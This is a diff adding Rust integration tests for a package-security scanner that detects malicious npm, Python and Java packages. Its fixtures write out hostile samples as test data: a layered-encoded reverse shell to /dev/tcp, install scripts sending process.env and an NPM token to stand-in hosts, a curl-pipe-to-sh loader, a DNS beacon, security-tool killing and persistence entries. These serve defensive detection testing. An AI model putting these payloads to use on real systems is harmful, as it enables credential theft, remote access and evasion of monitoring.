@@ -0,0 +1,2158 @@
+//! Integration tests for malicious behaviour detectors
+
+use std::fs;
+use tempfile::TempDir;
+use threatflux_package_security::core::{
+    AnalysisOptions, AnalysisTimeout, DatabaseStatistics, Finding, FindingType, LimitKind,
+    ManifestLimits, MemoryLimitExceeded, PatternCategory, ResourceLimitExceeded, UpdateResult,
+    Vulnerability, VulnerabilityDatabase,
+};
+use threatflux_package_security::utils::typosquatting::TyposquattingReason;
+use threatflux_package_security::{AnalysisResult, NpmAnalyzer, PackageAnalyzer, RiskLevel};
+
+#[tokio::test]
+async fn test_defense_evasion_in_postinstall() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "quiet-helper",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "history -c && rm -f ~/.bash_history && pkill -9 falcon-sensor"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let evasion: Vec<_> = result
+        .malicious_patterns()
+        .iter()
+        .filter(|p| p.category == PatternCategory::DefenseEvasion)
+        .collect();
+
+    let tampering = evasion
+        .iter()
+        .find(|p| p.pattern_id == "EVAS_001")
+        .expect("security tool tampering detected");
+    assert!(tampering
+        .attack_techniques
+        .contains(&"T1562.001".to_string()));
+    assert!(tampering
+        .evidence
+        .contains(&"Target: falcon-sensor".to_string()));
+
+    let history = evasion
+        .iter()
+        .find(|p| p.pattern_id == "EVAS_002")
+        .expect("history clearing detected");
+    assert!(history.attack_techniques.contains(&"T1070.003".to_string()));
+
+    assert!(result
+        .scripts_analysis
+        .suspicious_scripts
+        .iter()
+        .any(|s| s.script_name == "postinstall" && s.reason.contains("falcon-sensor")));
+    assert_eq!(result.overall_risk_level(), RiskLevel::Critical);
+}
+
+#[tokio::test]
+async fn test_benign_scripts_not_flagged_as_evasion() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "plain-package",
+        "version": "1.0.0",
+        "scripts": {
+            "test": "jest --coverage",
+            "build": "tsc -p ."
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    assert!(!result
+        .malicious_patterns()
+        .iter()
+        .any(|p| p.category == PatternCategory::DefenseEvasion));
+}
+
+#[tokio::test]
+async fn test_unexplained_wasm_run_by_postinstall() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "fast-hash",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node loader.js lib/hash.wasm"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::create_dir(temp_dir.path().join("lib")).unwrap();
+
+    // Minimal module whose only import is env.system
+    let mut module = b"\0asm\x01\0\0\0\x02\x0e\x01\x03env\x06system\x00\x00".to_vec();
+    module.extend_from_slice(b"\x01\x04\x01\x60\x00\x00");
+    fs::write(temp_dir.path().join("lib/hash.wasm"), module).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let binary = &result.bundled_binaries[0];
+    assert_eq!(binary.path, "lib/hash.wasm");
+    assert_eq!(binary.referenced_by_scripts, vec!["postinstall"]);
+    assert!(!binary.has_build_config);
+    assert_eq!(binary.wasm_imports[0].name, "system");
+
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::BundledWasm)
+        .expect("bundled wasm reported");
+    assert_eq!(finding.severity, RiskLevel::Critical);
+    assert!(finding.evidence.iter().any(|e| e == "Imports env.system"));
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn test_symlink_loop_does_not_fail_analysis() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{"name": "linked", "version": "1.0.0"}"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    std::os::unix::fs::symlink(".", temp_dir.path().join("self")).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(result.bundled_binaries.is_empty());
+}
+
+#[tokio::test]
+async fn test_unpinned_dependencies_flagged_by_breadth() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "loose-ranges",
+        "version": "1.0.0",
+        "dependencies": {
+            "left-pad": "*",
+            "chalk": "latest",
+            "debug": ">=2.0.0",
+            "ms": "^2.1.3"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let severity_of = |name: &str| {
+        result
+            .risk_assessment()
+            .detailed_findings
+            .iter()
+            .find(|f| {
+                f.finding_type == FindingType::UnpinnedDependency && f.affected_components == [name]
+            })
+            .map(|f| f.severity)
+    };
+    assert_eq!(severity_of("left-pad"), Some(RiskLevel::High));
+    assert_eq!(severity_of("chalk"), Some(RiskLevel::High));
+    assert_eq!(severity_of("debug"), Some(RiskLevel::Medium));
+    assert_eq!(severity_of("ms"), None);
+}
+
+#[tokio::test]
+async fn test_ci_check_before_exfiltration() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "color-utils-pro",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node scripts/setup.js"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::create_dir(temp_dir.path().join("scripts")).unwrap();
+    fs::write(
+        temp_dir.path().join("scripts/setup.js"),
+        r#"const os = require('os');
+if (process.env.CI) {
+  process.exit(0);
+}
+const data = JSON.stringify({ host: os.hostname(), env: process.env });
+require('https').request({ host: 'collector.example', method: 'POST' }).end(data);
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::SandboxEvasion)
+        .expect("sandbox evasion reported");
+    assert_eq!(finding.severity, RiskLevel::Critical);
+    assert_eq!(finding.affected_components, vec!["postinstall"]);
+    assert!(finding
+        .evidence
+        .iter()
+        .any(|e| e.starts_with("Check: process.env.CI")));
+    assert!(
+        result
+            .risk_assessment()
+            .security_posture
+            .malicious_code_detected
+    );
+}
+
+#[tokio::test]
+async fn test_sleep_before_exfiltration() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "log-formatter",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node scripts/setup.js"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::create_dir(temp_dir.path().join("scripts")).unwrap();
+    fs::write(
+        temp_dir.path().join("scripts/setup.js"),
+        r#"const https = require('https');
+setTimeout(() => {
+  const data = JSON.stringify(process.env);
+  https.request({ host: 'collector.example', method: 'POST' }).end(data);
+}, 15 * 60 * 1000);
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::DelayedExecution)
+        .expect("delayed execution reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert_eq!(finding.affected_components, vec!["postinstall"]);
+    assert_eq!(
+        finding.evidence[0],
+        "Delay: setTimeout(…, 15 * 60 * 1000) (900s)"
+    );
+    assert!(finding
+        .evidence
+        .contains(&"Action after delay: https.request(".to_string()));
+}
+
+#[tokio::test]
+async fn test_short_timeout_not_flagged_as_delay() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "log-formatter",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node scripts/setup.js"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::create_dir(temp_dir.path().join("scripts")).unwrap();
+    fs::write(
+        temp_dir.path().join("scripts/setup.js"),
+        r#"const { execSync } = require('child_process');
+setTimeout(() => execSync('node-gyp rebuild'), 250);
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(!result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .any(|f| f.finding_type == FindingType::DelayedExecution));
+}
+
+#[tokio::test]
+async fn test_postinstall_publishes_environment_to_registry() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "env-loader",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node scripts/sync.js"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::create_dir(temp_dir.path().join("scripts")).unwrap();
+    fs::write(
+        temp_dir.path().join("scripts/sync.js"),
+        r#"const { publish } = require('libnpmpublish');
+const manifest = {
+  name: 'cache-' + require('os').hostname(),
+  version: '1.0.' + Date.now(),
+  description: Buffer.from(JSON.stringify(process.env)).toString('base64'),
+};
+publish(manifest, tarball, {
+  registry: 'https://registry.attacker.example/',
+  forceAuth: { token: process.env.NPM_TOKEN },
+});
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(!result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .any(|f| f.finding_type == FindingType::RegistryExfiltration));
+
+    let options = AnalysisOptions {
+        detect_registry_exfiltration: true,
+        ..AnalysisOptions::default()
+    };
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::RegistryExfiltration)
+        .expect("registry exfiltration reported when enabled");
+    assert_eq!(finding.severity, RiskLevel::Critical);
+    assert_eq!(finding.affected_components, vec!["postinstall"]);
+    assert!(finding
+        .evidence
+        .contains(&"Channel: require('libnpmpublish')".to_string()));
+    assert!(finding.evidence.contains(&"Reads: process.env".to_string()));
+    assert!(finding
+        .description
+        .contains("https://registry.attacker.example/"));
+}
+
+#[tokio::test]
+async fn test_module_loader_patched_by_package() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "fast-logger",
+        "version": "2.1.0",
+        "main": "index.js"
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(
+        temp_dir.path().join("index.js"),
+        r#"const Module = require('module');
+const load = Module._load;
+Module._load = function (request, parent, isMain) {
+  const exports = load.apply(this, arguments);
+  if (request === 'crypto') {
+    return wrapCrypto(exports);
+  }
+  return exports;
+};
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::ImportHijack)
+        .expect("Module._load patch reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert!(finding.description.contains("patches Module._load"));
+    assert!(finding
+        .evidence
+        .contains(&"index.js: patches Module._load (Module._load)".to_string()));
+
+    // The same hook is expected of a configured instrumentation package
+    let options = AnalysisOptions {
+        loader_hook_allowlist: vec!["fast-logger".to_string()],
+        ..AnalysisOptions::default()
+    };
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    assert!(!result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .any(|f| f.finding_type == FindingType::ImportHijack));
+}
+
+#[tokio::test]
+async fn test_python_meta_path_finder_inserted() {
+    use threatflux_package_security::PythonAnalyzer;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("setup.py"),
+        "from setuptools import setup\n\nsetup(name=\"requests-toolkit\", version=\"0.3.0\")\n",
+    )
+    .unwrap();
+    fs::create_dir(temp_dir.path().join("requests_toolkit")).unwrap();
+    fs::write(
+        temp_dir.path().join("requests_toolkit/__init__.py"),
+        r#"import sys
+from importlib.abc import MetaPathFinder
+
+
+class _Finder(MetaPathFinder):
+    def find_spec(self, name, path, target=None):
+        if name == "requests":
+            return _patched_spec(name)
+        return None
+
+
+sys.meta_path.insert(0, _Finder())
+"#,
+    )
+    .unwrap();
+
+    let analyzer = PythonAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::ImportHijack)
+        .expect("sys.meta_path finder reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert_eq!(finding.affected_components, vec!["requests-toolkit"]);
+    assert!(finding
+        .evidence
+        .iter()
+        .any(|e| e.starts_with("requests_toolkit/__init__.py: inserts a sys.meta_path finder")));
+}
+
+#[tokio::test]
+async fn test_ansi_escape_in_description() {
+    let temp_dir = TempDir::new().unwrap();
+    // Clears the screen and prints a fake verdict when shown in a terminal
+    let package_json = r#"{
+        "name": "color-logger",
+        "version": "1.2.0",
+        "description": "Logger\u001b[2J\u001b[1;32m No issues found\u001b[0m",
+        "keywords": ["log", "color\u200b"]
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::MetadataInjection)
+        .expect("ANSI escape in description reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert!(finding.evidence.contains(
+        &r"description: Logger\u{1b}[2J\u{1b}[1;32m No issues found\u{1b}[0m".to_string()
+    ));
+    assert!(finding
+        .evidence
+        .contains(&r"keywords[1]: color\u{200b}".to_string()));
+    assert!(!result.to_json().unwrap().to_string().contains('\u{1b}'));
+    assert_eq!(
+        result.package.metadata.description.as_deref(),
+        Some("Logger No issues found")
+    );
+
+    // Left as published when sanitizing is turned off
+    let options = AnalysisOptions {
+        sanitize_metadata: false,
+        ..AnalysisOptions::default()
+    };
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    assert!(result
+        .package
+        .metadata
+        .description
+        .unwrap()
+        .contains('\u{1b}'));
+}
+
+#[tokio::test]
+async fn test_launch_agent_written_by_install_script() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "mac-notifier",
+        "version": "2.1.0",
+        "scripts": {
+            "postinstall": "node scripts/install.js"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::create_dir(temp_dir.path().join("scripts")).unwrap();
+    fs::write(
+        temp_dir.path().join("scripts/install.js"),
+        r#"const fs = require('fs');
+const plist = `<?xml version="1.0" encoding="UTF-8"?>
+<plist version="1.0"><dict>
+  <key>Label</key><string>com.apple.updatecheck</string>
+  <key>ProgramArguments</key><array><string>/tmp/.updater</string></array>
+  <key>RunAtLoad</key><true/>
+</dict></plist>`;
+fs.writeFileSync(process.env.HOME + '/Library/LaunchAgents/com.apple.updatecheck.plist', plist);
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let launch_agent = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "PERS_004")
+        .expect("launch agent persistence detected");
+    assert_eq!(launch_agent.category, PatternCategory::Persistence);
+    assert!(launch_agent
+        .attack_techniques
+        .contains(&"T1543.001".to_string()));
+    assert_eq!(launch_agent.evidence[0], "In postinstall script");
+    assert!(launch_agent
+        .evidence
+        .contains(&"Target: /Library/LaunchAgents/com.apple.updatecheck.plist".to_string()));
+    assert_eq!(result.overall_risk_level(), RiskLevel::Critical);
+}
+
+#[tokio::test]
+async fn test_run_key_added_by_postinstall() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "win-helper",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d %APPDATA%\\updater.exe /f"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let run_key = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "PERS_002")
+        .expect("run key persistence detected");
+    assert!(run_key.attack_techniques.contains(&"T1547.001".to_string()));
+    assert!(run_key
+        .evidence
+        .iter()
+        .any(|e| e.starts_with("Target: HKCU") && e.ends_with("CurrentVersion\\\\Run")));
+    assert!(result.scripts_analysis.suspicious_scripts.iter().any(|s| {
+        s.script_name == "postinstall" && s.reason.contains("Windows Run key persistence")
+    }));
+}
+
+#[tokio::test]
+async fn test_benign_scripts_not_flagged_as_persistence() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "plain-package",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node-gyp rebuild",
+            "build": "tsc -p ."
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    assert!(!result
+        .malicious_patterns()
+        .iter()
+        .any(|p| p.category == PatternCategory::Persistence && !p.attack_techniques.is_empty()));
+}
+
+#[tokio::test]
+async fn test_layered_encoded_payload_rescanned() {
+    use base64::Engine;
+    use flate2::write::GzEncoder;
+    use flate2::Compression;
+    use std::io::Write;
+    use threatflux_package_security::PythonAnalyzer;
+
+    let inner = r#"eval(compile("import os; os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')", "<x>", "exec"))"#;
+    let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
+    gzip.write_all(inner.as_bytes()).unwrap();
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let blob = b64.encode(b64.encode(gzip.finish().unwrap()));
+
+    let temp_dir = TempDir::new().unwrap();
+    let setup_py = format!(
+        r#"import base64, gzip
+from setuptools import setup
+
+exec(gzip.decompress(base64.b64decode(base64.b64decode("{}"))))
+
+setup(name="fast-json-tools", version="0.1.0")
+"#,
+        blob
+    );
+    fs::write(temp_dir.path().join("setup.py"), setup_py).unwrap();
+
+    let analyzer = PythonAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    // The reverse shell only exists after peeling three layers
+    let shell = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.category == PatternCategory::Backdoor)
+        .expect("decoded reverse shell detected");
+    assert_eq!(
+        shell.evidence[0],
+        "Decoded base64 -> base64 -> gzip payload passed to exec"
+    );
+    assert!(shell.evidence.iter().any(|e| e.contains("/dev/tcp/")));
+}
+
+#[tokio::test]
+async fn test_environment_exfiltration_in_install_script() {
+    use threatflux_package_security::core::PatternSeverity;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{"name": "env-helper", "version": "1.0.0", "scripts": {"postinstall": "node collect.js"}}"#,
+    )
+    .unwrap();
+    fs::write(
+        temp_dir.path().join("collect.js"),
+        r#"const https = require('https');
+const body = JSON.stringify(process.env);
+const req = https.request({ host: 'collector.example', method: 'POST' });
+req.end(body);
+"#,
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let exfiltration = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "EXFIL_002")
+        .expect("environment exfiltration detected");
+    assert_eq!(exfiltration.severity, PatternSeverity::Critical);
+    assert_eq!(exfiltration.file, std::path::Path::new("collect.js"));
+    assert_eq!(exfiltration.line, Some(2));
+
+    // Telemetry reading harmless variables before reporting is not exfiltration
+    fs::write(
+        temp_dir.path().join("collect.js"),
+        r#"const https = require('https');
+const ci = process.env.CI === 'true';
+https.request({ host: 'telemetry.example', path: `/install?ci=${ci}` }).end();
+"#,
+    )
+    .unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(!result
+        .malicious_patterns()
+        .iter()
+        .any(|p| p.pattern_id == "EXFIL_002"));
+}
+
+#[tokio::test]
+async fn test_dns_beacon_in_setup_py() {
+    use threatflux_package_security::core::PatternSeverity;
+    use threatflux_package_security::PythonAnalyzer;
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("setup.py"),
+        r#"import getpass, socket
+from setuptools import setup
+
+label = getpass.getuser().encode().hex()
+socket.gethostbyname(label + ".b.oast.example")
+
+setup(name="requets-toolbelt", version="0.1.0")
+"#,
+    )
+    .unwrap();
+
+    let analyzer = PythonAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let beacon = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "EXFIL_003")
+        .expect("DNS beacon detected");
+    assert_eq!(beacon.severity, PatternSeverity::High);
+    assert_eq!(beacon.line, Some(4));
+    // Reading nothing sensitive, so not environment exfiltration
+    assert!(!result
+        .malicious_patterns()
+        .iter()
+        .any(|p| p.pattern_id == "EXFIL_002"));
+}
+
+#[tokio::test]
+async fn test_encoded_literal_in_install_script() {
+    use base64::Engine;
+    use threatflux_package_security::core::PatternSeverity;
+
+    let stage =
+        "require('child_process').exec('curl -s http://203.0.113.7/stage2.sh | sh -s -- --quiet --detach --no-banner');";
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{"name": "color-utils-pro", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}"#,
+    )
+    .unwrap();
+    // Written out for later rather than decoded where a sink is visible
+    fs::write(
+        temp_dir.path().join("install.js"),
+        format!(
+            "const fs = require('fs');\nconst stage = '{}';\nfs.writeFileSync('.cache', stage);\n",
+            base64::engine::general_purpose::STANDARD.encode(stage)
+        ),
+    )
+    .unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let encoded = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "ENC_001")
+        .expect("encoded literal reported");
+    assert!(encoded.severity >= PatternSeverity::High);
+    assert_eq!(encoded.file, std::path::Path::new("install.js"));
+    assert_eq!(encoded.line, Some(2));
+    assert!(encoded
+        .evidence
+        .iter()
+        .any(|e| e.starts_with("Decoded content matches EXEC_001")));
+
+    // What the literal decodes to is reported where the literal is
+    let nested = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "EXEC_001")
+        .expect("decoded payload scanned");
+    assert!(nested
+        .evidence
+        .contains(&"Inside base64 literal (ENC_001)".to_string()));
+}
+
+#[tokio::test]
+async fn test_password_protected_jar_entry_reported() {
+    use std::io::Write;
+    use threatflux_package_security::JavaAnalyzer;
+    use zip::write::SimpleFileOptions;
+    use zip::{AesMode, ZipWriter};
+
+    let temp_dir = TempDir::new().unwrap();
+    let jar_path = temp_dir.path().join("widgets-1.0.jar");
+    let mut writer = ZipWriter::new(fs::File::create(&jar_path).unwrap());
+    writer
+        .start_file("META-INF/MANIFEST.MF", SimpleFileOptions::default())
+        .unwrap();
+    writer
+        .write_all(b"Manifest-Version: 1.0\nImplementation-Version: 1.0\n")
+        .unwrap();
+    writer
+        .start_file(
+            "com/example/Loader.class",
+            SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "hunter2"),
+        )
+        .unwrap();
+    writer.write_all(&[0xca, 0xfe, 0xba, 0xbe]).unwrap();
+    writer.finish().unwrap();
+
+    let analyzer = JavaAnalyzer::new().unwrap();
+    let result = analyzer.analyze(&jar_path).await.unwrap();
+
+    assert_eq!(result.package.metadata.version, "1.0");
+    assert_eq!(
+        result.security_analysis.encrypted_entries,
+        vec!["com/example/Loader.class"]
+    );
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::EncryptedArchive)
+        .expect("encrypted entry reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert_eq!(
+        finding.affected_components,
+        vec!["com/example/Loader.class"]
+    );
+    assert!(result.overall_risk_level() >= RiskLevel::High);
+}
+
+#[tokio::test]
+async fn test_password_protected_wheel_entry_reported() {
+    use std::io::Write;
+    use threatflux_package_security::PythonAnalyzer;
+    use zip::write::SimpleFileOptions;
+    use zip::{AesMode, ZipWriter};
+
+    let temp_dir = TempDir::new().unwrap();
+    let wheel_path = temp_dir.path().join("widgets-1.0-py3-none-any.whl");
+    let mut writer = ZipWriter::new(fs::File::create(&wheel_path).unwrap());
+    writer
+        .start_file(
+            "widgets-1.0.dist-info/METADATA",
+            SimpleFileOptions::default(),
+        )
+        .unwrap();
+    writer.write_all(b"Name: widgets\nVersion: 1.0\n").unwrap();
+    writer
+        .start_file(
+            "widgets/_loader.py",
+            SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "hunter2"),
+        )
+        .unwrap();
+    writer.write_all(b"import os\n").unwrap();
+    writer.finish().unwrap();
+
+    let analyzer = PythonAnalyzer::new().unwrap();
+    let options = AnalysisOptions {
+        check_vulnerabilities: false,
+        ..Default::default()
+    };
+    let result = analyzer
+        .analyze_with_options(&wheel_path, &options)
+        .await
+        .unwrap();
+
+    assert_eq!(result.package.metadata.name, "widgets");
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::EncryptedArchive)
+        .expect("encrypted entry reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert_eq!(finding.affected_components, vec!["widgets/_loader.py"]);
+}
+
+#[cfg(not(feature = "offline"))]
+#[tokio::test]
+async fn test_repository_link_to_unrelated_project() {
+    use threatflux_package_security::core::{AnalysisOptions, RepositoryStatus};
+
+    let mut server = mockito::Server::new_async().await;
+    let unrelated = server
+        .mock("GET", "/popular-org/popular-framework")
+        .with_status(200)
+        .with_body("<html><h1>popular-framework</h1><p>A web framework.</p></html>")
+        .create_async()
+        .await;
+    let missing = server
+        .mock("GET", "/someone/gone")
+        .with_status(404)
+        .create_async()
+        .await;
+    let archived = server
+        .mock("GET", "/wallet-org/wallet-connector-kit")
+        .with_status(200)
+        .with_body("<p>This repository has been archived by the owner. It is now read-only.</p>")
+        .create_async()
+        .await;
+    let escaping = server
+        .mock("GET", "/wallet-org/wallet-connector")
+        .with_status(302)
+        .with_header("location", "http://169.254.169.254/latest/meta-data")
+        .create_async()
+        .await;
+
+    let analyzer = NpmAnalyzer::new()
+        .unwrap()
+        .with_repository_base_url(&server.url())
+        .unwrap();
+    let options = AnalysisOptions {
+        validate_repository: true,
+        ..Default::default()
+    };
+    let analyze = |repository: String| {
+        let analyzer = &analyzer;
+        let options = &options;
+        async move {
+            let temp_dir = TempDir::new().unwrap();
+            let package_json = serde_json::json!({
+                "name": "wallet-connector-kit",
+                "version": "1.0.0",
+                "repository": { "type": "git", "url": repository },
+            });
+            fs::write(
+                temp_dir.path().join("package.json"),
+                package_json.to_string(),
+            )
+            .unwrap();
+            analyzer
+                .analyze_with_options(temp_dir.path(), options)
+                .await
+                .unwrap()
+        }
+    };
+
+    let result = analyze("https://github.com/popular-org/popular-framework".to_string()).await;
+    unrelated.assert_async().await;
+    let finding = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::SuspiciousRepository)
+        .expect("unrelated repository reported");
+    assert_eq!(finding.severity, RiskLevel::High);
+    assert_eq!(finding.rule_id.as_deref(), Some("TFX-REPO-LINK-003"));
+    let attributes = result.package_info().custom_attributes();
+    assert_eq!(
+        attributes["repository_validation"]["status"],
+        serde_json::json!("Unrelated")
+    );
+
+    let result = analyze("git+https://github.com/someone/gone.git".to_string()).await;
+    missing.assert_async().await;
+    let validation = result.package.repository_validation.as_ref().unwrap();
+    assert_eq!(validation.status, RepositoryStatus::NotFound);
+    let finding = validation.to_finding("wallet-connector-kit").unwrap();
+    assert_eq!(finding.severity, RiskLevel::Medium);
+    // A parseable link alone scores 0.4; the missing repository halves it
+    assert!((result.quality_metrics().maintenance_score() - 0.2).abs() < 1e-6);
+
+    // Archived repositories are not suspicious, only unmaintained
+    let result = analyze("github:wallet-org/wallet-connector-kit".to_string()).await;
+    archived.assert_async().await;
+    let validation = result.package.repository_validation.as_ref().unwrap();
+    assert_eq!(validation.status, RepositoryStatus::Archived);
+    assert!(validation.to_finding("wallet-connector-kit").is_none());
+    assert!((result.quality_metrics().maintenance_score() - 0.2).abs() < 1e-6);
+
+    // Redirects off the forge are not followed
+    let result = analyze("https://github.com/wallet-org/wallet-connector".to_string()).await;
+    escaping.assert_async().await;
+    let validation = result.package.repository_validation.as_ref().unwrap();
+    assert!(matches!(
+        validation.status,
+        RepositoryStatus::Unreachable(ref reason) if reason.contains("302")
+    ));
+
+    // Links to hosts other than the known forges are never fetched
+    for repository in [
+        "http://169.254.169.254/latest/meta-data",
+        &format!("{}/wallet-org/wallet-connector-kit", server.url()),
+    ] {
+        let result = analyze(repository.to_string()).await;
+        let validation = result.package.repository_validation.as_ref().unwrap();
+        assert!(matches!(validation.status, RepositoryStatus::Skipped(_)));
